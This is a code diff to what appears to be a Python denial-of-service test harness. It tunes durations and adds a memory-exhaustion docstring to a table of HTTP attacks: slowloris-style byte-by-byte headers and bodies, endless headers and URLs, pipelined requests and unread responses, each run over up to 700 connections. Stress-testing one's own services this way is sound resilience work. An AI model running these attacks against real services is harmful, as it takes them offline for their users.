@@ -67,11 +67,14 @@ def sending(
     pieces: Callable[[Target], Iterator[bytes]],
     connections: int,
     *,
-    seconds: float = 6,
+    seconds: float = 3,
     pause: float = 0.0,
     read: bool = True,
 ) -> Attack:
-    """The same over so many connections at once, again and again until the time is over."""
+    """The same over so many connections at once, again and again until the time is over.
+
+    In one second they send many times the memory that a service has left.
+    """
 
     async def attack(target: Target) -> None:
         async def again() -> None:
@@ -128,10 +131,13 @@ ATTACKS: dict[str, Attack] = {
     "many headers": sending(_many_headers, 30),
     "a header without end": sending(then_for_ever(lambda target: target.post() + b"x: ", b"y" * 65_536), 30),
     "an address without end": sending(then_for_ever(lambda target: b"GET /", b"y" * 65_536), 30),
-    "headers byte by byte": sending(then_for_ever(lambda target: target.post() + b"x: ", b"y"), 700, pause=0.5),
+    "headers byte by byte": sending(
+        then_for_ever(lambda target: target.post() + b"x: ", b"y"), 700, seconds=6, pause=0.5
+    ),
     "bodies byte by byte": sending(
         then_for_ever(lambda target: target.post(b"Content-Length: 999999") + b"\r\n" + b" " * 900_000, b" "),
         700,
+        seconds=6,
         pause=0.5,
     ),
     "silent connections": _silent,
@@ -148,7 +154,10 @@ ATTACKS: dict[str, Attack] = {
     ),
     "requests in a row": sending(lambda target: itertools.repeat(GET * 4_000, 20), 60, read=False),
     "answers that nobody reads": sending(
-        lambda target: itertools.repeat(GET.replace(b"/health/live", target.page.encode()) * 10, 50), 300, read=False
+        lambda target: itertools.repeat(GET.replace(b"/health/live", target.page.encode()) * 10, 50),
+        300,
+        seconds=6,
+        read=False,
     ),
 }
 
